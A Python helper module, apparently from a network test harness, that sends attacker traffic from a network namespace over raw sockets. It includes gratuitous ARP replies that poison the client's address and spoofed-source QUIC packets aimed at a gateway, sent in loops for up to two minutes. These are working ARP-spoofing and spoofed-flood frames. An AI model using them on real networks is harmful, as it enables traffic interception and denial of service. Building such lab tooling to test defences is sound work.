"""Frames of an attacker on the link, sent from its network namespace: frames.send(INTERFACE, STATION, KIND, SECONDS-APART)."""

import itertools
import socket
import struct
import time

GATEWAY, CLIENT = bytes([10, 80, 0, 1]), bytes([10, 80, 0, 2])
ALL, ATTACKER = b"\xff" * 6, bytes([2, 0, 0, 0, 0x66, 0x66])
#: The end of the process that sends, if nothing ends it before, seconds.
SECONDS_MAX = 120


def claim(_station, _number):
    """A gratuitous ARP reply: the client's address is at the attacker's station (RFC 826)."""
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + ATTACKER + CLIENT + ALL + CLIENT
    return (ALL + ATTACKER + b"\x08\x06" + arp).ljust(60, b"\0")


def spoofed(station, number):
    """A whole QUIC packet of an unknown version, which the gateway answers, from an invented address of the link."""
    source = bytes([10, 80, 1 + number // 250 % 250, 1 + number % 250])
    payload = b"\xc0\x1a\x2a\x3a\x4a\x08" + struct.pack("!Q", number) + b"\x08" + bytes(8)
    payload = payload.ljust(1200, b"\0")
    udp = struct.pack("!HHHH", 4433, 4433, 8 + len(payload), 0) + payload
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + source + GATEWAY
    total = sum(struct.unpack("!10H", header))
    total = (total >> 16) + (total & 0xFFFF)
    checksum = ~(total + (total >> 16)) & 0xFFFF
    header = header[:10] + struct.pack("!H", checksum) + header[12:]
    return station + ATTACKER + b"\x08\x00" + header + udp


def send(interface, station, kind, apart_s):
    station = bytes.fromhex(station.replace(":", ""))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind((interface, 0))
        until = time.monotonic() + SECONDS_MAX
        for number in itertools.takewhile(lambda _: time.monotonic() < until, itertools.count()):
            link.send({"claims": claim, "spoofed": spoofed}[kind](station, number))
            time.sleep(float(apart_s))
